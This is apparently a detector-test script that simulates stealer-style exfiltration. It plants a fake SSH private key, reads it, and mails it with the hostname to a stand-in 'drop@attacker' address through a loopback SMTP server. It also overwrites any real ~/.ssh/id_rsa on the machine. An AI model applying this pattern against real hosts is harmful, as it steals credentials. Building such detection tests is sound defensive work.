# technique: T1048.003 T1552.004 T1071.003
"""Exfiltration over SMTP with an attachment (T1048.003, T1071.003).

Keyloggers and stealers written in Python commonly mail their loot
(smtplib + email.mime). Here ~/.ssh/id_rsa (planted first) and the output of
`hostname` go as an attachment of an EmailMessage sent with smtplib.SMTP to a
minimal SMTP server on loopback implemented in a thread.

A good detector raises a high alert: a credential file is read and then sent
out by mail / over the network.
"""
import email.message, os, smtplib, socket, subprocess, threading

ssh = os.path.join(os.path.expanduser("~"), ".ssh"); os.makedirs(ssh, exist_ok=True)
open(os.path.join(ssh, "id_rsa"), "w").write("-----BEGIN RSA PRIVATE KEY-----\nZmFrZQ==\n-----END RSA PRIVATE KEY-----\n")

lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
def smtpd():
    try:
        c, _ = lsn.accept(); c.settimeout(3); f = c.makefile("rb")
        c.sendall(b"220 mx ESMTP\r\n")
        data = False
        for line in f:
            if data:
                if line == b".\r\n": data = False; c.sendall(b"250 queued\r\n")
                continue
            cmd = line[:4].upper()
            if cmd == b"DATA": data = True; c.sendall(b"354 go\r\n")
            elif cmd == b"QUIT": c.sendall(b"221 bye\r\n"); break
            else: c.sendall(b"250 ok\r\n")
    except Exception: pass
threading.Thread(target=smtpd, daemon=True).start()
try:
    msg = email.message.EmailMessage()
    msg["From"] = "bot@victim"; msg["To"] = "drop@attacker"; msg["Subject"] = subprocess.getoutput("hostname")
    msg.set_content("logs")
    with open(os.path.join(ssh, "id_rsa"), "rb") as f:
        msg.add_attachment(f.read(), maintype="application", subtype="octet-stream", filename="k.bin")
    with smtplib.SMTP(*lsn.getsockname(), timeout=3) as s:
        s.send_message(msg)
except Exception:
    pass
